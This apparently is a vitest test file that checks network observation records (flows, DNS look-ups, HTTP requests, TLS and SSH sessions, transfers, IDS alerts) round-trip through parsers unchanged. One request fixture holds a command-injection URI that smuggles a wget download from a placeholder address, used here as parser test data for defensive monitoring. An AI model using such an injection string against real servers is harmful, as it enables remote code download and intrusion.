import { expect, test } from 'vitest'
import type { NetworkObservation } from '@/lib/domain/observation'
import { aFlow, START } from './some-flows'
import { aLookup, anAlert, anSshSession, aRequest, aTlsSession, aTransfer } from './some-records'
import { throughParsers } from './through-parsers'

test.each<[string, NetworkObservation]>([
  ['a flow', aFlow({ after: 5, lastingMs: 1_500 })],
  ['a look-up', aLookup({ after: 5, uid: 'C1' })],
  ['a look-up of a name that is not there', aLookup({ result: 'nxdomain', queryType: 'TYPE65' })],
  ['a look-up without an answer', aLookup({ result: 'unanswered' })],
  ['a request', aRequest({ uri: '/cgi-bin/x?a=1;wget%20http://203.0.113.9/b', host: '203.0.113.9' })],
  ['a request without an answer', aRequest({ status: null, responseType: '', userAgent: '' })],
  ['a session', aTlsSession({ after: 7, notAfter: START, fingerprint: 't13d1516h2_8daaf6152771_b186095e22b6' })],
  ['a session with a certificate signed by itself', aTlsSession({ selfSigned: true, serverName: '', version: '' })],
  ['a session of which little was seen', aTlsSession({ selfSigned: null, subject: '', issuer: '' })],
  ['an SSH session', anSshSession()],
  ['an SSH session of which nothing is known', anSshSession({ success: null, attempts: null, client: '' })],
  ['a transfer', aTransfer({ sentByClient: true, name: 'x.bin', sha256: 'ab'.repeat(32) })],
  ['an alert', anAlert({ uid: 'F1', priority: 1, category: 'a network trojan was detected' })],
  ['a notice', anAlert({ engine: 'zeek', signature: 'Scan::Port_Scan', category: 'notice', priority: 4 })],
  ['a weird', anAlert({ engine: 'zeek', signature: 'dns_unmatched_reply', category: 'weird', priority: 4 })],
])('%s comes back as it was', (_, record) => {
  const { raw, ...read } = throughParsers(record) as NetworkObservation
  expect(raw).not.toBe('')
  expect({ ...read, raw: record.raw }).toEqual(record)
})
